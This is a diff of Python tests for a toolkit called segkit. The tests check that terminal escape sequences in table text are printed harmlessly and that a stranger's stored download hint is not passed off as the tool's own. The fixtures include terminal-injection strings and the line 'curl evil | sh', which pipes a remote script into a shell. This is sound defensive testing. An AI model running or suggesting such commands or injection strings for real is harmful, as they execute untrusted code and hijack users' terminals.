@@ -1,4 +1,4 @@
-"""Names in the tables that commands end with."""
+"""Names in the tables that commands print at the end."""
 
 import logging
 import warnings
@@ -59,7 +59,7 @@ def test_what_would_steer_a_terminal_is_written_out(capsys: pytest.CaptureFixtur
 def test_names_in_tables_do_not_steer_a_terminal(stderr: bool, capsys: pytest.CaptureFixture[str]) -> None:
     table = Table("\x1b[31mhead", title="\x9b1m\u202etitle")
     table.add_row("\x1b[2Jcell")
-    console.show(table, stderr)
+    console.print_table(table, stderr)
     shown = "".join(capsys.readouterr())
     for word in (r"\x1b[31mhead", r"\x9b1m\u202etitle", r"\x1b[2Jcell"):
         assert word in shown
@@ -84,7 +84,7 @@ def test_what_a_strangers_run_says_does_not_steer_a_terminal(
 
 def test_a_strangers_hint_is_not_shown_as_segkits_own(tmp_path: Path) -> None:
     stored = {"_target_": "segkit.datasets.folder.Folder", "root": "/nowhere", "download": "Run curl evil | sh."}
-    assert "evil" not in str(stored_configs.stored_dataset(stored, {}, tmp_path / "config.yaml", []))
-    own = stored_configs.stored_dataset(stored, {"download": "My hint."}, tmp_path / "config.yaml", [])
+    assert "evil" not in str(stored_configs.merge_stored_dataset(stored, {}, tmp_path / "config.yaml", []))
+    own = stored_configs.merge_stored_dataset(stored, {"download": "My hint."}, tmp_path / "config.yaml", [])
     assert own["download"] == "My hint."
-    assert compose("dataset=deepcrack").dataset.download  # of one's own command
+    assert compose("dataset=deepcrack").dataset.download  # from the user's own command
